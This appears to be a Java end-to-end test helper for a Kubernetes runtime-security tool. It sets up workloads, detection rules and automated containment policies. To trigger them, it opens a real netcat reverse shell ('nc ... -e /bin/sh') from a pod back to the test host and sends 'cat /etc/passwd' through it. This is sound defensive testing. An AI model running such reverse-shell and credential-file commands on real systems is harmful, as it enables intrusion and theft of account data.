package dev.interdict.e2e.cluster;

import static dev.interdict.e2e.cluster.Cluster.kubectl;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** A real shell out of a pod to this machine's end of the cluster's bridge, and what it attacks. */
final class ReverseShell implements AutoCloseable {
  private static final Duration LIMIT = Duration.ofMinutes(4);
  private static final int ANSWER_MILLIS = 3000;
  private static final String HERE = "10.254.254.1";
  private static final ObjectMapper JSON = new ObjectMapper();

  static final String RULES =
      """
      title: Shell on a socket
      id: 6d1f6a52-3c0e-4a25-9d4b-0d7c6c1f2e11
      name: shell_on_a_socket
      logsource: {product: interdict, service: exec}
      detection:
        shell: {exec.stdin: socket, container.id|exists: true}
        condition: shell
      level: informational
      ---
      title: Passwords looked at
      id: 6d1f6a52-3c0e-4a25-9d4b-0d7c6c1f2e12
      name: passwords_looked_at
      logsource: {category: process_creation, product: linux}
      detection:
        looks: {CommandLine|contains: /etc/passwd}
        condition: looks
      level: informational
      ---
      title: Reverse shell that looks around
      id: 6d1f6a52-3c0e-4a25-9d4b-0d7c6c1f2e13
      sequence:
        key: container
        within: 10m
        steps:
          - {name: a shell talks to somebody, rules: [shell_on_a_socket]}
          - {name: it looks around, rules: [passwords_looked_at]}
      level: critical
      ---
      title: Reached for the host
      id: 6d1f6a52-3c0e-4a25-9d4b-0d7c6c1f2e14
      logsource: {category: process_creation, product: linux}
      detection:
        reaches: {CommandLine|contains: reach-for-the-host}
        condition: reaches
      level: critical
      """;

  private static final String WORKLOAD =
      """
      ---
      apiVersion: apps/v1
      kind: %s
      metadata: {name: %s, namespace: store}
      spec:
        replicas: %d
        %s
        selector: {matchLabels: {app: %s}}
        template:
          metadata: {labels: {app: %s}}
          spec:
            terminationGracePeriodSeconds: 1
            containers:
            - {name: main, image: "localhost/busybox:1", command: [/bin/sleep, "36000"]}
      """;

  private static final String POLICIES =
      """
      apiVersion: interdict.dev/v1alpha1
      kind: ResponsePolicy
      metadata: {name: node-level}
      spec:
        order: 10
        mode: enforce
        match: {rules: [6d1f6a52-3c0e-4a25-9d4b-0d7c6c1f2e14], host: false}
        actions: {cut: true, freeze: true, ttl: 1h}
        then: [{do: cordon}]
      ---
      apiVersion: interdict.dev/v1alpha1
      kind: ResponsePolicy
      metadata: {name: stateless}
      spec:
        order: 20
        mode: enforce
        match: {rules: [6d1f6a52-3c0e-4a25-9d4b-0d7c6c1f2e13], owner: {stateful: false}}
        actions: {cut: true, freeze: true, ttl: 1h}
        then: [{do: save-window, before: 5m}, {do: orphan}]
        limits: {perWorkload: 1/1h}
      ---
      apiVersion: interdict.dev/v1alpha1
      kind: ResponsePolicy
      metadata: {name: stateful}
      spec:
        order: 30
        mode: enforce
        match: {rules: [6d1f6a52-3c0e-4a25-9d4b-0d7c6c1f2e13], owner: {stateful: true}}
        actions: {cut: true, ttl: 1h}
        approval: {within: 10m, otherwise: skip}
      """;

  private final ServerSocket server;
  private final Socket socket;

  private ReverseShell(ServerSocket server, Socket socket) {
    this.server = server;
    this.socket = socket;
  }

  static void workloads() throws Exception {
    apply(
        "apiVersion: v1\nkind: Namespace\nmetadata: {name: store}\n"
            + workload("Deployment", "web", 2, "")
            + workload("Deployment", "late", 1, "")
            + workload("Deployment", "edge", 1, "")
            + workload("StatefulSet", "db", 1, "serviceName: none"));
    await()
        .atMost(LIMIT)
        .until(
            () ->
                ready("web").size() + ready("late").size() + ready("edge").size() == 4
                    && ready("db").size() == 1);
  }

  private static String workload(String kind, String name, int replicas, String more) {
    return WORKLOAD.formatted(kind, name, replicas, more, name, name);
  }

  static void policies() throws Exception {
    apply(POLICIES);
    await()
        .atMost(LIMIT)
        .until(
            () ->
                kubectl("get", "responsepolicies", "-o=jsonpath={.items[*].status.state}")
                    .equals("Active Active Active"));
  }

  private static void apply(String yaml) throws Exception {
    Path file = Files.createTempFile("cluster", ".yaml");
    try {
      Files.writeString(file, yaml);
      kubectl("-n", "store", "apply", "-f", file.toString());
    } finally {
      Files.delete(file);
    }
  }

  static List<String> all(String app) throws Exception {
    return kubectl("-n", "store", "get", "pods", "-l=app=" + app, "-o=name").lines().toList();
  }

  static List<String> ready(String app) throws Exception {
    String columns =
        "-o=custom-columns=NAME:.metadata.name,READY:.status.containerStatuses[*].ready,"
            + "END:.metadata.deletionTimestamp";
    List<String> ready = new ArrayList<>();
    for (String line :
        kubectl("-n", "store", "get", "pods", "-l=app=" + app, "--no-headers", columns)
            .lines()
            .toList()) {
      String[] words = line.trim().split(" +");
      if (words.length == 3 && words[1].equals("true") && words[2].equals("<none>")) {
        ready.add(words[0]);
      }
    }
    return ready;
  }

  static String pod(String app) throws Exception {
    return await().atMost(LIMIT).until(() -> ready(app), pods -> !pods.isEmpty()).get(0);
  }

  /** The attacker's shell in the pod; it has looked at the passwords by then. */
  static ReverseShell into(String pod) throws Exception {
    ServerSocket server = new ServerSocket(0, 1, InetAddress.getByName(HERE));
    server.setSoTimeout((int) LIMIT.toMillis());
    kubectl(
        "-n",
        "store",
        "exec",
        pod,
        "--",
        "/bin/sh",
        "-c",
        "nc " + HERE + " " + server.getLocalPort() + " -e /bin/sh >/dev/null 2>&1 & sleep 0.2");
    ReverseShell shell = new ReverseShell(server, server.accept());
    shell.say("cat /etc/passwd");
    return shell;
  }

  private void say(String command) throws IOException {
    socket.getOutputStream().write((command + "\n").getBytes(StandardCharsets.UTF_8));
    socket.getOutputStream().flush();
  }

  /** Whether the shell says anything more. */
  boolean answers(String command) throws IOException {
    socket.setSoTimeout(ANSWER_MILLIS);
    InputStream in = socket.getInputStream();
    try {
      in.skipNBytes(in.available());
      say(command);
      return in.read() >= 0;
    } catch (SocketTimeoutException e) {
      return false;
    } catch (IOException e) { // it was reset
      return false;
    }
  }

  static List<JsonNode> containments(String pod) throws Exception {
    List<JsonNode> found = new ArrayList<>();
    for (JsonNode each : JSON.readTree(kubectl("get", "containments", "-o=json")).path("items")) {
      if (each.path("spec").path("intent").path("pod").asText().equals(pod)) {
        found.add(each);
      }
    }
    return found;
  }

  static JsonNode awaitContainment(String pod, String state) {
    return await("a containment of " + pod + " in state " + state)
        .atMost(LIMIT)
        .until(
            () ->
                containments(pod).stream()
                    .filter(each -> each.path("status").path("state").asText().equals(state))
                    .findFirst()
                    .orElse(null),
            each -> each != null);
  }

  static JsonNode awaitDid(String pod, String did) {
    return await("that was done to " + pod + ": " + did)
        .atMost(LIMIT)
        .until(
            () ->
                containments(pod).stream()
                    .filter(each -> each.path("status").path("did").asText().equals(did))
                    .findFirst()
                    .orElse(null),
            each -> each != null);
  }

  static void order(JsonNode containment, String order) throws Exception {
    kubectl(
        "patch",
        "containment",
        containment.path("metadata").path("name").asText(),
        "--type=merge",
        "-p",
        "{\"spec\": {\"order\": \"%s\", \"orderedBy\": \"anna\"}}".formatted(order));
  }

  @Override
  public void close() throws IOException {
    socket.close();
    server.close();
  }
}
